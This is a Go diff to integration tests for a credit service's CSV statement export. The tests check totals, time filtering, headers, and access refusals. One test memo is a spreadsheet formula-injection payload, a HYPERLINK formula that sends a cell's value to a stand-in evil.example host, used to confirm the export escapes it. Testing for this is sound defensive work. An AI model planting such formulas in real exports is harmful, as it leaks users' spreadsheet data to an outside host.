@@ -12,48 +12,35 @@ import (
 	"github.com/tidwall/gjson"
 
 	"github.com/resourcepool/resourcepool/server/money"
+	"github.com/resourcepool/resourcepool/server/programtest"
 	"github.com/resourcepool/resourcepool/server/upstreamtest"
 )
 
 const grantWithMemo = `mutation($u: ID!, $a: Credits!, $m: String!) { grantCredits(userId: $u, amount: $a, memo: $m) { seq } }`
 
-// fetch asks for a path as the person is signed in, and returns the answer with its body.
-func (c *client) fetch(method, path string) (*http.Response, string) {
-	c.t.Helper()
-	req, err := http.NewRequest(method, c.url+path, nil)
-	require.NoError(c.t, err)
-	if c.token != "" {
-		req.Header.Set("Authorization", "Bearer "+c.token)
-	}
-	resp, err := c.http.Do(req)
-	require.NoError(c.t, err)
-	defer func() { _ = resp.Body.Close() }()
-	return resp, string(readAll(c.t, resp.Body))
-}
-
 // statement is a statement as a program reads it.
-func (c *client) statement(query string) [][]string {
-	c.t.Helper()
-	resp, body := c.fetch("GET", "/statement.csv"+query)
-	require.Equal(c.t, http.StatusOK, resp.StatusCode, body)
+func statement(c *client, query string) [][]string {
+	c.T.Helper()
+	resp, body := c.Fetch("GET", "/statement.csv"+query)
+	require.Equal(c.T, http.StatusOK, resp.StatusCode, body)
 	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
-	require.NoError(c.t, err)
-	require.Equal(c.t, []string{"time", "transaction", "kind", "amount", "balance", "memo", "request", "model"}, rows[0])
+	require.NoError(c.T, err)
+	require.Equal(c.T, []string{"time", "transaction", "kind", "amount", "balance", "memo", "request", "model"}, rows[0])
 	return rows[1:]
 }
 
 // entries is the same by GraphQL, a few lines at a time, newest first.
-func (c *client) entries() []gjson.Result {
-	c.t.Helper()
+func entries(c *client) []gjson.Result {
+	c.T.Helper()
 	var all []gjson.Result
 	for after := any(nil); ; {
-		r := c.must(`query($a: Cursor) { viewer { wallet { entries(first: 2, after: $a) { totalCount pageInfo { hasNextPage endCursor }
+		r := c.Must(`query($a: Cursor) { viewer { wallet { entries(first: 2, after: $a) { totalCount pageInfo { hasNextPage endCursor }
 			edges { node { createdAt kind amount balanceAfter memo transaction { seq usageLog { id model } } } } } } } }`, vars{"a": after}).Get("viewer.wallet.entries")
 		for _, e := range r.Get("edges").Array() {
 			all = append(all, e.Get("node"))
 		}
 		if !r.Get("pageInfo.hasNextPage").Bool() {
-			require.Len(c.t, all, int(r.Get("totalCount").Int()))
+			require.Len(c.T, all, int(r.Get("totalCount").Int()))
 			return all
 		}
 		after = r.Get("pageInfo.endCursor").String()
@@ -69,20 +56,20 @@ func amount(t *testing.T, text string) money.Credits {
 
 func TestAPersonTakesTheirStatementHome(t *testing.T) {
 	u := upstreamtest.New(t)
-	p := serve(t, "POOL_PROVIDER_URLS="+u.ProviderURLs())
-	admin := p.admin()
-	admin.gpt4()
-	admin.platform(u, "sk-admin-0123456789abcdef", "5000", false)
-	tom, bob := p.person("tom"), p.person("bob")
+	p := programtest.Serve(t, "POOL_PROVIDER_URLS="+u.ProviderURLs())
+	admin := p.Admin()
+	admin.GPT4()
+	admin.Platform(u, "sk-admin-0123456789abcdef", "5000", false)
+	tom, bob := p.Person("tom"), p.Person("bob")
 	memos := []string{"给汤姆的积分", `=HYPERLINK("http://evil.example/?"&A1,"prize")`, "+1, \"quoted\" and more", "-0.1", "@SUM(1)", "plain"}
 	for i, memo := range memos {
-		admin.must(grantWithMemo, vars{"u": tom.id, "a": money.Format(money.Credits(i+1) * money.One), "m": memo})
+		admin.Must(grantWithMemo, vars{"u": tom.ID, "a": money.Format(money.Credits(i+1) * money.One), "m": memo})
 	}
 	u.NextUsage("sk-admin-0123456789abcdef", 2000, 1000)
-	tom.must(complete, ask("gpt-4", nil))
-	bob.deposit(u, "sk-bob-0123456789abcdef", "2000")
+	tom.Must(programtest.Complete, programtest.Ask("gpt-4", nil))
+	bob.Deposit(u, "sk-bob-0123456789abcdef", "2000")
 
-	rows := tom.statement("")
+	rows := statement(tom, "")
 	require.Len(t, rows, len(memos)+1)
 	for i, memo := range memos {
 		want := memo
@@ -98,7 +85,7 @@ func TestAPersonTakesTheirStatementHome(t *testing.T) {
 
 	// It adds up, and GraphQL says the same.
 	balance := money.Credits(0)
-	entries := tom.entries()
+	entries := entries(tom)
 	slices.Reverse(entries)
 	require.Len(t, entries, len(rows))
 	for i, row := range rows {
@@ -112,48 +99,48 @@ func TestAPersonTakesTheirStatementHome(t *testing.T) {
 		require.NoError(t, err)
 		require.WithinDuration(t, e.Get("createdAt").Time(), at, 0)
 	}
-	require.Equal(t, tom.available(), money.Format(balance))
+	require.Equal(t, tom.Available(), money.Format(balance))
 
 	// A time cuts it in two, and nobody else is in it.
 	cut := rows[3][0]
-	require.Equal(t, rows[:3], tom.statement("?to="+cut))
-	require.Equal(t, rows[3:], tom.statement("?from="+cut))
-	require.Empty(t, tom.statement("?to=2020-01-01"))
-	require.Len(t, bob.statement(""), 1)
-	require.Empty(t, admin.statement(""))
+	require.Equal(t, rows[:3], statement(tom, "?to="+cut))
+	require.Equal(t, rows[3:], statement(tom, "?from="+cut))
+	require.Empty(t, statement(tom, "?to=2020-01-01"))
+	require.Len(t, statement(bob, ""), 1)
+	require.Empty(t, statement(admin, ""))
 }
 
 func TestTheStatementIsAFileForItsOwnerAlone(t *testing.T) {
-	p := serve(t)
-	admin, tom := p.admin(), p.person("tom")
-	admin.grant(tom, "5")
-	resp, body := tom.fetch("GET", "/statement.csv?from=2026-01-01&to=2099-01-01")
+	p := programtest.Serve(t)
+	admin, tom := p.Admin(), p.Person("tom")
+	admin.Grant(tom, "5")
+	resp, body := tom.Fetch("GET", "/statement.csv?from=2026-01-01&to=2099-01-01")
 	require.Equal(t, http.StatusOK, resp.StatusCode)
 	require.Equal(t, "text/csv; charset=utf-8; header=present", resp.Header.Get("Content-Type"))
 	require.Equal(t, `attachment; filename="statement-2026-01-01-to-2099-01-01.csv"`, resp.Header.Get("Content-Disposition"))
 	require.Equal(t, "no-store", resp.Header.Get("Cache-Control"))
 	require.True(t, strings.HasSuffix(body, "\r\n"))
-	head, nothing := tom.fetch("HEAD", "/statement.csv")
+	head, nothing := tom.Fetch("HEAD", "/statement.csv")
 	require.Equal(t, http.StatusOK, head.StatusCode)
 	require.Empty(t, nothing)
 
 	token := *tom
-	token.http, token.token = &http.Client{}, tom.must(`mutation { createApiToken(input: {name: "books", spendLimit: "1"}) { secret } }`, nil).Get("createApiToken.secret").String()
-	_, same := token.fetch("GET", "/statement.csv?from=2026-01-01&to=2099-01-01")
+	token.HTTP, token.Token = &http.Client{}, tom.Must(`mutation { createApiToken(input: {name: "books", spendLimit: "1"}) { secret } }`, nil).Get("createApiToken.secret").String()
+	_, same := token.Fetch("GET", "/statement.csv?from=2026-01-01&to=2099-01-01")
 	require.Equal(t, body, same)
 
 	refused := func(c *client, path string, status int, code, field string) {
 		t.Helper()
-		resp, body := c.fetch("GET", path)
+		resp, body := c.Fetch("GET", path)
 		require.Equal(t, status, resp.StatusCode, body)
 		require.Equal(t, code, gjson.Get(body, "errors.0.extensions.code").String(), body)
 		require.Equal(t, field, gjson.Get(body, "errors.0.extensions.field").String(), body)
 		require.Empty(t, resp.Header.Get("Content-Disposition"))
 	}
-	refused(p.anonymous(), "/statement.csv", http.StatusUnauthorized, "UNAUTHENTICATED", "")
+	refused(p.Anonymous(), "/statement.csv", http.StatusUnauthorized, "UNAUTHENTICATED", "")
 	refused(tom, "/statement.csv?from=yesterday", http.StatusBadRequest, "BAD_USER_INPUT", "from")
 	refused(tom, "/statement.csv?to=31.1.2026", http.StatusBadRequest, "BAD_USER_INPUT", "to")
-	refused(tom, "/statement.csv?user="+tom.id, http.StatusBadRequest, "BAD_USER_INPUT", "user")
-	token.token = "rp_of_nobody"
+	refused(tom, "/statement.csv?user="+tom.ID, http.StatusBadRequest, "BAD_USER_INPUT", "user")
+	token.Token = "rp_of_nobody"
 	refused(&token, "/statement.csv", http.StatusUnauthorized, "UNAUTHENTICATED", "")
 }
